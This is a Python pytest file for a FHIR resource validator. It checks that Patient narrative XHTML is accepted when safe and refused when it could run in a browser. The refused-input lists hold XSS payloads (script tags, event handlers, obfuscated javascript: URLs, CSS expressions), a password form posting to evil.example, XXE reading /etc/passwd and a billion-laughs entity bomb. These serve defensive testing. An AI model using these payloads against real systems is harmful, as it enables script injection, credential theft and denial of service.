"""Narrative XHTML (txt-1): markup that could run in a reader's browser is refused where it sits."""

from __future__ import annotations

from typing import Any

import pytest

from profiles import validate_resource
from profiles.xhtml import check_div

NS = 'xmlns="http://www.w3.org/1999/xhtml"'


def _issues(div: str) -> list[tuple[str, str | None]]:
    patient: dict[str, Any] = {"resourceType": "Patient", "text": {"status": "generated", "div": div}}
    return [(i.code, i.expression) for i in validate_resource(patient)]


@pytest.mark.parametrize(
    "div",
    [
        f"<div {NS}>Jane Doe</div>",
        f'<div {NS} xml:lang="en" lang="en"><p class="x" style="color: red">a<br/>b</p></div>',
        f'<div {NS}><table border="1"><tbody><tr><td colspan="2">1</td></tr></tbody></table></div>',
        f'<div {NS}><a href="https://example.org/a?b=c&amp;d=e">link</a><a name="here">x</a></div>',
        f'<div {NS}><img src="#photo" alt="photo"/><img src="data:image/png;base64,iVBORw0KGgo="/></div>',
        f"<div {NS}>&lt;script&gt; as text is harmless &#169; &#x263A;</div>",
        f"<div {NS}><!-- a comment --><![CDATA[ <b>not markup</b> ]]></div>",
        f"<div {NS}>\n    </div>",  # empty: txt-2 is not enforced (four official examples have one)
    ],
)
def test_allowed_narrative(div: str) -> None:
    assert _issues(div) == []


@pytest.mark.parametrize(
    "div",
    [
        f"<div {NS}><script>alert(1)</script></div>",
        f'<div {NS}><img src="x" onerror="alert(1)"/></div>',
        f'<div {NS}><p onclick="steal()">x</p></div>',
        f'<div {NS}><a href="javascript:alert(1)">x</a></div>',
        f'<div {NS}><a href=" JaVaScRiPt:alert(1)">x</a></div>',
        f'<div {NS}><a href="&#106;avascript:alert(1)">x</a></div>',
        f'<div {NS}><a href="java&#x09;script:alert(1)">x</a></div>',
        f'<div {NS}><a href="vbscript:msgbox">x</a></div>',
        f'<div {NS}><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a></div>',
        f'<div {NS}><p style="background: url(javascript:alert(1))">x</p></div>',
        f'<div {NS}><p style="width: expression(alert(1))">x</p></div>',
        f'<div {NS}><form action="https://evil.example"><input name="pw"/></form></div>',
        f'<div {NS}><iframe src="https://evil.example"></iframe></div>',
        f'<div {NS}><object data="x.swf"></object></div>',
        f'<div {NS}><embed src="x.swf"/></div>',
        f"<div {NS}><style>body {{ display: none }}</style></div>",
        f'<div {NS}><link rel="stylesheet" href="https://evil.example/x.css"/></div>',
        f'<div {NS}><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></div>',
        f'<div {NS} xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:alert(1)">x</a></div>',
        "<div>no namespace</div>",
        '<div xmlns="http://example.org/not-xhtml">wrong namespace</div>',
        f"<div {NS}><p>unclosed</div>",
        f"<div {NS}>&nbsp;is not an XML entity</div>",
        f"<div {NS}>one</div><div {NS}>two</div>",
        f"<div {NS}>a\x01b</div>",
        f'<div {NS}><p xmlns="http://www.w3.org/2000/svg">other namespace</p></div>',
    ],
)
def test_refused_narrative(div: str) -> None:
    assert _issues(div) == [("invariant", "Patient.text.div")]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE div [<!ENTITY x "boom">]>',
        '<!DOCTYPE div [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "<!DOCTYPE div ["
        + "".join(f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" * 10 if i else "lol"}">' for i in range(10))
        + "]>",
    ],
)
def test_document_types_and_entities_are_refused_before_they_are_read(doctype: str) -> None:
    div = f"{doctype}<div {NS}>&x;</div>"
    assert _issues(div) == [("value", "Patient.text.div")]  # not even a <div
    problem = check_div(div.replace("&x;", "&l9;") if "l9" in doctype else div)
    assert problem is not None
    assert problem[1]() == "The narrative may not declare a document type or entities"


def test_the_refusal_names_the_element_or_attribute() -> None:
    patient = {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": f'<div {NS}><img src="x" onerror="alert(1)"/></div>'},
    }
    assert "onerror" in validate_resource(patient)[0].diagnostics
    patient["text"] = {"status": "generated", "div": f"<div {NS}><script>alert(1)</script></div>"}
    assert "script" in validate_resource(patient)[0].diagnostics


def test_narrative_of_contained_and_bundled_resources_is_checked() -> None:
    bad = {"status": "generated", "div": f"<div {NS}><script>alert(1)</script></div>"}
    bundle = {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [{"resource": {"resourceType": "Patient", "text": bad}}],
    }
    assert [(i.code, i.expression) for i in validate_resource(bundle)] == [
        ("invariant", "Bundle.entry[0].resource.text.div")
    ]
